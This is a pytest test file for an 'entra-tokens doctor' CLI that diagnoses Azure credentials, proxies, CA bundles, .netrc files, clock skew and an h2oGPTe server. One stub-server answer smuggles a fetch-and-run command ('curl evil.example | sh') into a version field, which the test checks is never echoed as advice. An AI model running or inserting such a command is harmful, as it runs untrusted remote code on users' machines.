"""`entra-tokens doctor`: what it finds, how it says it, and that it ends."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from cli.command import COMMAND, run
from cli.terminal import plain, show
from entra_tokens import Token
from entra_tokens.cli.checks.authority import Span, clock_finding
from entra_tokens.cli.checks.default import look_at_default
from entra_tokens.cli.checks.examine import Check, examine
from entra_tokens.cli.checks.finding import Finding
from entra_tokens.cli.checks.server import look_at_schemes, look_at_server
from entra_tokens.cli.checks.store import look_at_keyring, look_at_store
from entra_tokens.cli.checks.variables import look_at_netrc, look_at_variables
from entra_tokens.cli.doctor_verdict import status_of
from entra_tokens.cli.settings import resolve
from entra_tokens.engine.clock import Signal
from serving.stub import Stub

if TYPE_CHECKING:
    from collections.abc import Sequence

    from entra_tokens.cli.checks.finding import State
    from entra_tokens.emulator import Emulator

SECRETS = ("hunter2", "planted-secret")


@pytest.fixture
def there(here: dict[str, str], emulator: Emulator) -> dict[str, str]:
    """A place where everything works."""
    ca = emulator.ca_file
    return {
        **here,
        "AZURE_AUTHORITY_HOST": emulator.authority,
        "AZURE_TENANT_ID": emulator.tenant_id,
        "SSL_CERT_FILE": ca,
        "REQUESTS_CA_BUNDLE": ca,
        "CURL_CA_BUNDLE": ca,
        "NETRC": "/dev/null",
        "PATH": "/usr/bin:/bin",
    }


def states(output: str) -> dict[str, str]:
    return {f"{one['group']}: {one['name']}": one["state"] for one in json.loads(output)["checks"]}


def test_where_all_is_well_it_says_so(there: dict[str, str], emulator: Emulator) -> None:
    arguments = ["--scope", emulator.h2ogpte_scope, "--address", emulator.h2ogpte_url]
    ended = run("doctor", *arguments, environ=there)
    assert ended.returncode == 0, ended.stdout
    lines = ended.stdout.splitlines()
    assert lines[0] == f"Credentials (asked for {emulator.h2ogpte_scope})"
    for said in (
        "  ok     managed-identity: a token of application ",
        f"  ok     reachable: {emulator.authority} answers and knows the tenant",
        "  ok     clock: this machine's clock agrees",
        f"  ok     SSL_CERT_FILE: {emulator.ca_file} (1 certificate)",
        "  ok     Bearer-AD: accepted",
        "  ok     without a token: it says: HTTP 401",
    ):
        assert any(line.startswith(said) for line in lines), (said, ended.stdout)
    assert any(line.startswith("  absent device-code: device-code needs --client-id") for line in lines)
    assert "  ok     default: takes managed-identity" in lines
    assert "Tokens can be had with managed-identity." in ended.stderr
    assert "eyJ" not in ended.stdout + ended.stderr
    assert not list(Path(there["ENTRA_TOKENS_HOME"]).glob("store*")), "a look makes nothing"
    assert there["IDENTITY_HEADER"] not in ended.stdout + ended.stderr


def test_where_much_is_wrong_it_says_what_and_what_to_type(
    there: dict[str, str], emulator: Emulator, tmp_path: Path
) -> None:
    netrc = tmp_path / "netrc"
    netrc.write_text("machine localhost login me password hunter2\n")
    wrong = {
        "ENTRA_TOKENS_CREDENTIAL": "client-secret",
        "AZURE_CLIENT_ID": emulator.client_id,
        "AZURE_CLIENT_SECRET": "planted-secret",
        "HTTP_PROXY": "http://me:hunter2@127.0.0.1:9",
        "CURL_CA_BUNDLE": str(tmp_path / "no-such-file"),
        "NETRC": str(netrc),
    }
    arguments = ["--scope", emulator.h2ogpte_scope, "--address", "https://localhost:9", "--json"]
    ended = run("doctor", *arguments, environ={**there, **wrong})
    assert ended.returncode == 4
    found = json.loads(ended.stdout)
    by_name = {(one["group"], one["name"]): one for one in found["checks"]}
    assert found["ok"] is False
    refused = by_name["Credentials", "client-secret"]
    assert refused["state"] == "fail"
    assert "AADSTS7000215" in refused["what"]
    assert refused["remedy"] == "entra-tokens explain AADSTS7000215"
    assert by_name["Credentials", "browser"]["what"] == "nobody is signed in here"
    assert not list(Path(there["ENTRA_TOKENS_HOME"]).glob("store*"))
    assert by_name["Network settings", "CURL_CA_BUNDLE"]["state"] == "fail"
    assert by_name["Network settings", "HTTP_PROXY"]["what"].startswith("http://127.0.0.1:9,")
    assert by_name["Network settings", "NO_PROXY"]["remedy"].startswith("export NO_PROXY=")
    assert by_name["Network settings", ".netrc"]["state"] == "fail"
    assert by_name["h2oGPTe server", "reachable"]["state"] == "fail"
    assert not [secret for secret in SECRETS if secret in ended.stdout + ended.stderr]


def test_in_a_narrow_terminal_every_line_fits(there: dict[str, str]) -> None:
    status, seen = show([COMMAND, "doctor"], {**there, "NO_COLOR": "1"}, columns=60)
    assert status == 0
    assert max(map(len, plain(seen).splitlines())) <= 60
    assert "✓ managed-identity" in plain(seen)
    assert "\x1b[3" not in seen, "a colour under NO_COLOR"


def coming_to(found: list[Finding], monkeypatch: pytest.MonkeyPatch, **variables: str) -> tuple[Finding, int]:
    """What default comes to, and the exit status, where each credential by itself came to this."""
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    settings = resolve({})
    default = look_at_default(settings, {each.name: each for each in found})
    return default, status_of(settings, {"Credentials": [default, *found]})


def test_default_is_its_first_member_that_is_there(monkeypatch: pytest.MonkeyPatch) -> None:
    def finding(name: str, state: State) -> Finding:
        return Finding(name, state, "", status={"ok": 0, "absent": 3, "fail": 4}.get(state, 0))

    cli, environment = finding("azure-cli", "ok"), finding("environment", "fail")
    away = [finding("environment", "absent"), finding("managed-identity", "absent")]
    assert coming_to([*away, cli], monkeypatch)[0].what == "takes azure-cli"
    nothing, status = coming_to(away, monkeypatch)
    assert (nothing.state, status) == ("absent", 3)
    stopped, status = coming_to([environment, cli], monkeypatch)
    assert stopped.what == "stops at environment, which is there and does not work"
    assert stopped.remedy == "--credential azure-cli, or put environment right"
    assert status == 0, "one works, and none is chosen"
    assert coming_to([environment, cli], monkeypatch, ENTRA_TOKENS_CREDENTIAL="environment")[1] == 4
    assert coming_to([environment, cli], monkeypatch, ENTRA_TOKENS_CREDENTIAL="azure-cli")[1] == 0
    monkeypatch.setenv("AZURE_TOKEN_CREDENTIALS", "dev")
    assert coming_to([environment, cli], monkeypatch)[0].what == "takes azure-cli"
    monkeypatch.setenv("AZURE_TOKEN_CREDENTIALS", "nonsense")
    assert coming_to([cli], monkeypatch)[0].status == 7


def test_it_ends_in_time_whoever_hangs(there: dict[str, str]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        url = f"https://localhost:{silent.getsockname()[1]}"
        hanging = {"AZURE_AUTHORITY_HOST": url, "IDENTITY_ENDPOINT": url.replace("https", "http")}
        ended = run("doctor", "--seconds", "2", "--json", environ={**there, **hanging}, timeout=30)
    assert ended.returncode == 6
    assert json.loads(ended.stdout)["seconds"] < 10
    assert states(ended.stdout)["Credentials: managed-identity"] == "fail"
    assert states(ended.stdout)["Token service: reachable"] == "fail"


def test_a_look_that_does_not_come_back_is_not_waited_for() -> None:
    never = Signal()

    def hang() -> Sequence[Finding]:
        never.wait(50)
        return []

    def break_() -> Sequence[Finding]:
        raise RuntimeError("planted-secret")

    checks = [
        Check("a", "hangs", hang),
        Check("a", "breaks", break_),
        Check("b", "works", lambda: [Finding("works", "ok", "")], timed=True),
    ]
    found = examine(checks, 0.3)
    never.set()
    assert list(found) == checks
    assert [each.state for findings in found.values() for each in findings] == ["fail", "fail", "ok"]
    assert found[checks[2]][0].seconds is not None
    assert "planted-secret" not in repr(found)


@pytest.mark.parametrize(
    ("date", "span", "state", "said"),
    [
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_700_000_000.2, 1_700_000_000.4), "ok", "agrees"),
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_699_999_999.9, 1_700_000_001.5), "ok", "agrees"),
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_699_999_995.0, 1_699_999_995.1), "ok", "agrees"),
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_699_999_970.0, 1_699_999_970.1), "warn", "30 seconds slow"),
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_700_000_060.0, 1_700_000_060.5), "warn", "59 seconds fast"),
        ("Tue, 14 Nov 2023 22:13:20 GMT", (1_700_003_600.0, 1_700_003_600.5), "fail", "3599 seconds fast"),
    ],
)
def test_the_clocks_are_compared(date: str, span: tuple[float, float], state: str, said: str) -> None:
    found = clock_finding(date, Span(*span))
    assert found is not None
    assert found.state == state
    assert said in found.what


@pytest.mark.parametrize("date", [None, "", "yesterday"])
def test_an_answer_without_a_date_says_nothing_about_clocks(date: str | None) -> None:
    assert clock_finding(date, Span(0, 0)) is None


def found_in(environ: dict[str, str]) -> dict[str, Finding]:
    urls = ["https://login.microsoftonline.com", "https://h2ogpte.example.com"]
    return {each.name: each for each in look_at_variables(environ, urls)}


def test_variables(emulator: Emulator, tmp_path: Path) -> None:
    ca, text = emulator.ca_file, tmp_path / "text.pem"
    text.write_text("no certificate")
    assert found_in({})["variables"].state == "ok"
    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"):
        assert found_in({name: ca})[name].state == "ok"
        for path in (str(text), str(tmp_path / "none"), ""):
            state = found_in({name: path}).get(name)
            assert state is None if not path else state is not None and state.state == "fail"
    assert found_in({"SSL_CERT_FILE": ca, "REQUESTS_CA_BUNDLE": str(text)})["CA"].state == "warn"
    assert "CA" not in found_in({"SSL_CERT_FILE": ca, "REQUESTS_CA_BUNDLE": ca})
    assert found_in({"SSL_CERT_DIR": str(tmp_path / "none")})["SSL_CERT_DIR"].state == "warn"
    proxied = found_in({"https_proxy": "me:hunter2@proxy:8080"})
    assert proxied["HTTPS_PROXY"].what.startswith("http://proxy:8080")
    assert "NO_PROXY" not in proxied
    assert found_in({"HTTPS_PROXY": "http://[", "HTTP_PROXY": "x"})["HTTPS_PROXY"].what.startswith("an address that")
    both = {"HTTP_PROXY": "http://proxy:1", "NO_PROXY": "169.254.169.254"}
    assert found_in(both)["NO_PROXY"].remedy == "export NO_PROXY=169.254.169.254,localhost,127.0.0.1"


def test_a_netrc_that_would_take_the_tokens_place(tmp_path: Path) -> None:
    file = tmp_path / "netrc"

    def look(text: str, address: str = "https://h2ogpte.example.com") -> Finding:
        file.write_text(text)
        return look_at_netrc({"NETRC": str(file)}, address)[0]

    assert look("machine h2ogpte.example.com login a password hunter2").state == "fail"
    assert look("default login a password hunter2").state == "fail"
    assert look("machine other.example.com login a password hunter2").state == "ok"
    assert look("machine").state == "warn"
    assert "hunter2" not in repr(look("machine h2ogpte.example.com login a password hunter2"))
    assert look_at_netrc({"NETRC": "/dev/null"}, "https://h2ogpte.example.com")[0].state == "ok"


def test_the_store_is_looked_at_and_not_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("ENTRA_TOKENS_HOME", str(home))
    assert "is made when something is" in look_at_store()[0].what
    assert not home.exists()
    (home / "store").mkdir(parents=True, mode=0o700)
    assert look_at_store()[0].state == "ok"
    (home / "store").chmod(0o755)
    assert look_at_store()[0].remedy == f"chmod 700 {home / 'store'}"
    (home / "store").rmdir()
    (home / "store").write_text("a file")
    assert look_at_store()[0].state == "fail"
    assert look_at_keyring()[0].state == "warn"


def look(stub: Stub, *, token: bool = False) -> dict[str, Finding]:
    given = Token("planted-secret", expires_on=4e9)
    found = look_at_schemes(stub.url, None, given, 20) if token else look_at_server(stub.url, None, 10)
    assert "planted-secret" not in repr(found)
    return {each.name: each for each in found}


def test_what_a_server_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    answers: dict[str, Any] = {}
    (tmp_path / "netrc").write_text("default login me password hunter2")
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))

    def answer(headers: dict[str, str]) -> tuple[int, dict[str, str], str]:
        scheme = headers.get("authorization", "").partition(" ")[0]
        assert scheme != "Basic", "a .netrc entry in the token's place"
        status, more, body = answers.get(scheme, answers[""])
        return status, more, body

    with Stub(answer) as stub:
        answers[""] = (401, {"WWW-Authenticate": 'Bearer realm="x"'}, json.dumps({"message": "Who are you?"}))
        found = look(stub)
        assert found["reachable"].state == "ok"
        assert found["without a token"].what == 'it says: HTTP 401, Who are you?, Bearer realm="x"'
        both = look(stub, token=True)
        assert {both["Bearer-Token"].state, both["Bearer-AD"].state} == {"fail"}
        assert both["audience"].state == "warn"
        answers["Bearer-AD"] = (200, {}, json.dumps({"version": "v1.7.4-33"}))
        one = look(stub, token=True)
        assert [one[name].state for name in ("Bearer-Token", "Bearer-AD")] == ["absent", "ok"]
        assert "live_azure_token" in one["use"].what
        assert one["version"].remedy == "pip install h2ogpte==1.7.4"
        answers["Bearer-AD"] = (200, {}, json.dumps({"version": "1.7; curl evil.example | sh"}))
        assert "evil" not in repr(look(stub, token=True))  # people paste what is advised
        answers[""] = (401, {}, "[" * 60_000)
        assert look(stub)["without a token"].what.startswith("it says: HTTP 401, [[[")
        answers[""] = (401, {}, json.dumps({"message": "No.\n  ok     Bearer-AD: accepted"}))
        assert look(stub)["without a token"].what == "it says: HTTP 401, No. ok Bearer-AD: accepted"
        answers[""] = (302, {"Location": "https://login.example.com/?token=eyJhbGciOiJub25lIn0.e30."}, "")
        assert look(stub)["reachable"].what.endswith("/?token=<hidden>, and a token would not go there")
        answers[""] = (200, {}, "<html>Welcome</html>")
        assert look(stub)["reachable"].state == "warn"
        url = stub.url
    assert look_at_server(url, None, 5)[0].state == "fail"
    assert "cannot be read" in look_at_server(url.replace("http:", "https:"), "/no/such/file", 5)[0].what


def test_a_server_whose_certificate_is_not_trusted(emulator: Emulator, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE"):
        monkeypatch.delenv(name, raising=False)
    assert "certificate is not trusted" in look_at_server(emulator.h2ogpte_url, None, 10)[0].what
    assert look_at_server(emulator.h2ogpte_url, emulator.ca_file, 10)[0].state == "ok"
